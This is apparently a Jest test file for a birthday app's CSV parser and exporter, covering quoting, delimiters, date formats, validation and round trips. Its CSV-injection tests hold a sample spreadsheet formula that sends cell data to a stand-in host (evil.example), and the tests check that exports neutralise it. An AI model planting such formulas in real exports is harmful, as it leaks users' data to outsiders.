/** @jest-environment node */
import fc from "fast-check";
import { validBirthday } from "../support/arbitraries";
import { exportText } from "../support/export";
import { detectDelimiter, normalizeHeader, parseCsv, parseCsvDate, parseCsvRecords } from "@/lib/contacts/csv";
import { formatOfFile } from "@/lib/contacts/format";
import { duplicateKey, readImport } from "@/lib/contacts/import";
import { AppError } from "@/lib/http/errors";

describe("parseCsvRecords", () => {
  it("follows RFC 4180 quoting: delimiters, line breaks and doubled quotes inside quotes; CRLF or LF", () => {
    const text = '\uFEFFname,notes\r\n"Jones, Bob","said ""hi""\r\nthen left"\r\nAnn,plain\n\nEve,\n';
    expect(parseCsvRecords(text)).toEqual([
      { line: 1, fields: ["name", "notes"] },
      { line: 2, fields: ["Jones, Bob", 'said "hi"\r\nthen left'] },
      { line: 4, fields: ["Ann", "plain"] },
      { line: 6, fields: ["Eve", ""] },
    ]);
  });

  it("detects a semicolon or tab delimiter from the header row, ignoring quoted ones", () => {
    expect(detectDelimiter('"a,b";c;d\n1,2,3,4,5')).toBe(";");
    expect(detectDelimiter("a\tb\tc")).toBe("\t");
    expect(detectDelimiter("name")).toBe(",");
    expect(parseCsvRecords("Vardas;Gimtadienis\nJonas;1990-01-02")[1]!.fields).toEqual(["Jonas", "1990-01-02"]);
  });

  it("is lenient with an unclosed quote and text after a closing quote", () => {
    expect(parseCsvRecords('a,"b\nc')).toEqual([{ line: 1, fields: ["a", "b\nc"] }]);
    expect(parseCsvRecords('"a"x,b')).toEqual([{ line: 1, fields: ["ax", "b"] }]);
  });
});

describe("CSV headers", () => {
  it.each([
    ["Name,Birthday,E-mail,Notes"],
    ["FULL NAME;Date of birth;Email Address;Comments"],
    ["Vardas ir pavardė,Gimimo data,El. paštas,Pastabos"],
    ["ФИО;Дата рождения;Эл. почта;Примечания"],
    ["Имя,День рождения,Электронная почта,Заметки"],
  ])("recognises %s", (header) => {
    const delimiter = header.includes(";") ? ";" : ",";
    const row = ["Ona", "1990-07-15", "ona@example.com", "hi"].join(delimiter);
    const { entries, problem } = parseCsv(`${header}\n${row}`);
    expect(problem).toBeNull();
    expect(entries).toEqual([
      { line: 2, name: "Ona", date: { year: 1990, month: 7, day: 15 }, email: "ona@example.com", notes: "hi" },
    ]);
  });

  it("joins first and last names, and ignores columns it does not know", () => {
    const { entries } = parseCsv("First Name,Middle Name,Last Name,Birthday,Phone\nBob,X,Jones,--07-15,123");
    expect(entries[0]).toMatchObject({ name: "Bob Jones", date: { year: null, month: 7, day: 15 }, email: null });
    expect(parseCsv("Vardas,Pavardė,Data\nJonas,Jonaitis,15.07.1990").entries[0]).toMatchObject({
      name: "Jonas Jonaitis",
      date: { year: 1990, month: 7, day: 15 },
    });
  });

  it("reports a file without a name or birthday column, and an empty one", () => {
    expect(parseCsv("Bob,1990-01-01\nAnn,1991-02-02").problem).toBe("columns");
    expect(parseCsv("Name,Phone\nBob,1").problem).toBe("columns");
    expect(parseCsv(" \n,,\n").problem).toBe("empty");
    expect(normalizeHeader("  E-mail 1 - Value ")).toBe("email 1 value");
  });
});

describe("parseCsvDate", () => {
  it.each([
    ["1990-07-15", { year: 1990, month: 7, day: 15 }],
    ["1990-07-15T00:00:00Z", { year: 1990, month: 7, day: 15 }],
    ["1990.07.15", { year: 1990, month: 7, day: 15 }],
    ["1990/7/5", { year: 1990, month: 7, day: 5 }],
    ["19900715", { year: 1990, month: 7, day: 15 }],
    ["15.07.1990", { year: 1990, month: 7, day: 15 }],
    ["15.07.1990 г.", { year: 1990, month: 7, day: 15 }],
    ["5.7.1990", { year: 1990, month: 7, day: 5 }],
    ["15.07.", { year: null, month: 7, day: 15 }],
    ["--07-15", { year: null, month: 7, day: 15 }],
    ["--0715", { year: null, month: 7, day: 15 }],
    ["07-15", { year: null, month: 7, day: 15 }],
    ["15/07/1990", { year: 1990, month: 7, day: 15 }],
    ["03/04/1990", { year: 1990, month: 4, day: 3 }],
    ["03-04-1990", { year: 1990, month: 4, day: 3 }],
    ["  ", null],
    ["15 July 1990", "invalid"],
    ["90-07-15", "invalid"],
  ] as [string, unknown][])("reads %j day first", (value, expected) => {
    expect(parseCsvDate(value, "dmy")).toEqual(expected);
  });

  it("reads slashed dates month first when told", () => {
    expect(parseCsvDate("03/04/1990", "mdy")).toEqual({ year: 1990, month: 3, day: 4 });
    expect(parseCsvDate("12/25", "mdy")).toEqual({ year: null, month: 12, day: 25 });
  });
});

describe("ambiguous dates (03/04/1990)", () => {
  const file = (...dates: string[]) => ["Name,Birthday", ...dates.map((date, i) => `P${i},${date}`)].join("\n");
  const dates = (text: string, order?: "dmy" | "mdy") => {
    const parsed = parseCsv(text, { dateOrder: order });
    return { ...parsed, entries: parsed.entries.map((entry) => entry.date) };
  };

  it("reads the order from a date that only fits one way", () => {
    expect(dates(file("03/04/1990", "25/12/1980"))).toMatchObject({
      ambiguousDates: false,
      dateOrder: "dmy",
      entries: [{ year: 1990, month: 4, day: 3 }, { year: 1980, month: 12, day: 25 }],
    });
    expect(dates(file("03/04/1990", "12/25/1980"))).toMatchObject({
      ambiguousDates: false,
      dateOrder: "mdy",
      entries: [{ year: 1990, month: 3, day: 4 }, { year: 1980, month: 12, day: 25 }],
    });
  });

  it("reads day first and says so when nothing decides, and follows the chosen order", () => {
    expect(dates(file("03/04/1990", "05/05/1991"))).toMatchObject({ ambiguousDates: true, dateOrder: "dmy" });
    expect(dates(file("03/04/1990"), "mdy")).toMatchObject({
      ambiguousDates: true,
      dateOrder: "mdy",
      entries: [{ year: 1990, month: 3, day: 4 }],
    });
    expect(dates(file("1990-03-04", "05/05/1991"))).toMatchObject({ ambiguousDates: false, dateOrder: "dmy" });
    expect(dates(file("1990-03-04"))).toMatchObject({ ambiguousDates: false, dateOrder: null });
  });

  it("asks when the file mixes both orders; rows that do not fit the choice are invalid", () => {
    const preview = readImport({ format: "csv", content: file("25/12/1980", "12/25/1981") });
    expect(preview).toMatchObject({ ambiguousDates: true, dateOrder: "dmy" });
    expect(preview.skipped).toEqual([{ line: 3, reason: "invalidDate", name: "P1" }]);
  });
});

describe("readImport of a CSV file", () => {
  it("validates every row, imports one with a bad e-mail address without it, and skips duplicates in the file and of stored birthdays", () => {
    const content = [
      "Name;Birthday;Email;Notes",
      "Bob;1990-07-15;bob@example.com;Likes tea",
      ";1990-07-15;;",
      "No Date;;;",
      "Bad;31.04.1990;;",
      "Mail;1990-01-01;bob@;",
      "  bob  ;15.07.1991;;",
      "Ann;--03-01;;",
      "Long;1990-01-01;;" + "x".repeat(2001),
      "Future;01.01.2999;;",
    ].join("\r\n");
    const preview = readImport({ format: "csv", content }, [{ name: "ANN", date: "2000-03-01" }]);
    expect(preview.candidates).toEqual([
      { line: 2, name: "Bob", date: "1990-07-15", birthYear: 1990, email: "bob@example.com", notes: "Likes tea" },
      { line: 6, name: "Mail", date: "1990-01-01", birthYear: 1990, email: null, notes: null, invalidEmail: "bob@" },
    ]);
    expect(preview.skipped).toEqual([
      { line: 3, reason: "missingName" },
      { line: 4, reason: "missingDate", name: "No Date" },
      { line: 5, reason: "invalidDate", name: "Bad" },
      { line: 7, reason: "duplicateInFile", name: "bob" },
      { line: 8, reason: "duplicateExisting", name: "Ann" },
      { line: 9, reason: "notesTooLong", name: "Long" },
      { line: 10, reason: "invalidYear", name: "Future" },
    ]);
  });

  it("refuses a file over the limits, one that is not text and one without the columns", () => {
    const refusal = (content: string) => {
      try {
        readImport({ format: "csv", content });
      } catch (error) {
        return error instanceof AppError ? [error.status, error.code, error.messageKey] : error;
      }
      return null;
    };
    const rows = (count: number) => Array.from({ length: count }, (_, i) => `P${i},--01-01`);
    expect(refusal(["Name,Birthday", ...rows(5000)].join("\n"))).toBeNull();
    expect(refusal(["Name,Birthday", ...rows(5001)].join("\n"))).toEqual([413, "payload_too_large", "importTooManyEntries"]);
    expect(refusal(`Name,Birthday\nA,--01-01,${"ą".repeat(600_000)}`)).toEqual([413, "payload_too_large", "importTooLarge"]);
    expect(refusal("N\u0000a\u0000m\u0000e\u0000")).toEqual([400, "bad_request", "importNotText"]);
    expect(refusal("Bob,1990-01-01")).toEqual([400, "bad_request", "importCsvColumns"]);
    expect(refusal("")).toEqual([400, "bad_request", "importNoContacts"]);
    expect(refusal("Name,Birthday\n")).toEqual([400, "bad_request", "importNoContacts"]);
  });

  it("knows a file's format from its extension or its first line", () => {
    expect(formatOfFile("Contacts.VCF", "")).toBe("vcard");
    expect(formatOfFile("export.csv", "BEGIN:VCARD")).toBe("csv");
    expect(formatOfFile("contacts", "\uFEFF BEGIN:VCARD\r\n")).toBe("vcard");
    expect(formatOfFile("contacts.txt", "BEGIN:VCARD\nFN:Bob\nEND:VCARD")).toBe("vcard");
    expect(formatOfFile("friends.txt", "\uFEFFVardas;Gimimo data\nJonas;1990-01-02")).toBe("csv");
    expect(formatOfFile("photo.jpg", "x")).toBeNull();
  });

  it("asks for a vCard or CSV file when a .txt file is neither (not the CSV header error)", () => {
    expect(formatOfFile("notes.txt", "a,b")).toBeNull();
    expect(formatOfFile("shopping list.txt", "Milk\nBread, butter\n")).toBeNull();
    expect(formatOfFile("readme", "Name: Bob")).toBeNull();
  });
});

describe("the CSV export", () => {
  it("writes a header, CRLF rows, quotes where needed and --MM-DD without a year; the file starts with a BOM", () => {
    const file = exportText("csv", [
      { name: 'Ona "O" Žukauskienė', date: "2000-02-29", birthYear: null, email: null, notes: "a,b\nc" },
      { name: "Пётр", date: "1990-07-15", birthYear: 1990, email: "p@example.com", notes: null },
    ]);
    expect(file).toMatchObject({ contentType: "text/csv; charset=utf-8", filename: "confetti-birthdays.csv" });
    expect(file.content).toBe(
      '\uFEFFName,Birthday,Email,Notes\r\n"Ona ""O"" Žukauskienė",--02-29,,"a,b\nc"\r\nПётр,1990-07-15,p@example.com,\r\n',
    );
    expect(exportText("csv", []).content).toBe("\uFEFFName,Birthday,Email,Notes\r\n");
  });
});

describe("CSV export against spreadsheet formulas (CSV injection)", () => {
  const attack = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';

  it("puts a single quote before text starting with = + - @ a tab or a carriage return, and quotes the cell", () => {
    const rows = exportText("csv", [
      { name: attack, date: "1990-07-15", birthYear: 1990, email: "@x@example.com", notes: "+1 555" },
      { name: "-2+3", date: "2000-02-29", birthYear: null, email: null, notes: "\tcmd" },
      { name: "@SUM(1)", date: "1990-01-01", birthYear: 1990, email: null, notes: "\rx" },
      { name: "'=already quoted", date: "1990-01-02", birthYear: 1990, email: null, notes: "Bob = friend" },
    ]).content.split("\r\n");
    expect(rows.slice(1, 5)).toEqual([
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")",1990-07-15,"'@x@example.com","'+1 555"`,
      `"'-2+3",--02-29,,"'\tcmd"`,
      `"'@SUM(1)",1990-01-01,,"'\rx"`,
      `"''=already quoted",1990-01-02,,Bob = friend`,
    ]);
  });

  it("reads its own neutralised cells back exactly", () => {
    const birthdays = [
      { name: attack, date: "1990-07-15", birthYear: 1990, email: null, notes: "=1+1" },
      { name: "'=already quoted", date: "2000-02-29", birthYear: null, email: null, notes: "'plain quote" },
      { name: "-Minus", date: "1990-01-02", birthYear: 1990, email: null, notes: "@home" },
    ];
    const { candidates } = readImport({ format: "csv", content: exportText("csv", birthdays).content });
    expect(candidates).toEqual(birthdays.map((birthday) => ({ ...birthday, line: expect.any(Number) })));
  });
});

// Texts that stress the format: delimiters, quotes, line breaks (CR too),
// Lithuanian, Russian, emoji and combining marks.
const tricky = fc
  .array(
    fc.oneof(
      fc.constantFrom(",", ";", '"', '""', "\n", "\r\n", "\r", " ", "\t", "ą", "Ž", "ё", "Я", "😀", "e\u0301", "Name,Birthday"),
      fc.string({ unit: "grapheme", maxLength: 6 }),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join("").replace(/[\u0000\uFFFD]/g, ""));

const validBirthdayWithTrickyText = validBirthday(tricky);

describe("CSV properties", () => {
  it("gives back the same birthdays after an export and an import", () => {
    const lists = fc.uniqueArray(validBirthdayWithTrickyText, {
      minLength: 1,
      maxLength: 15,
      selector: (birthday) => duplicateKey(birthday.name, birthday.date),
    });
    fc.assert(
      fc.property(lists, (birthdays) => {
        const { content } = exportText("csv", birthdays);
        const { candidates, skipped } = readImport({ format: "csv", content });
        expect(skipped).toEqual([]);
        expect(candidates).toEqual(birthdays.map((birthday) => expect.objectContaining({ ...birthday, line: expect.any(Number) })));
      }),
      { numRuns: 300 },
    );
  });

  it("never throws on arbitrary input; an import refuses it or reads it", () => {
    const csvish = fc
      .array(
        fc.oneof(
          fc.constantFrom("Name,Birthday,Email,Notes\n", "Vardas;Data\r\n", '"', ",", ";", "\t", "\r", "\n", "03/04/1990", "--02-29", "31.04.", "г."),
          fc.string({ unit: "binary", maxLength: 10 }),
        ),
      )
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary" }), csvish), fc.constantFrom(undefined, "dmy", "mdy"), (text, order) => {
        expect(() => parseCsv(text, { dateOrder: order })).not.toThrow();
        try {
          readImport({ format: "csv", content: text, dateOrder: order });
        } catch (error) {
          expect(error).toBeInstanceOf(AppError);
        }
      }),
      { numRuns: 500 },
    );
  });
});
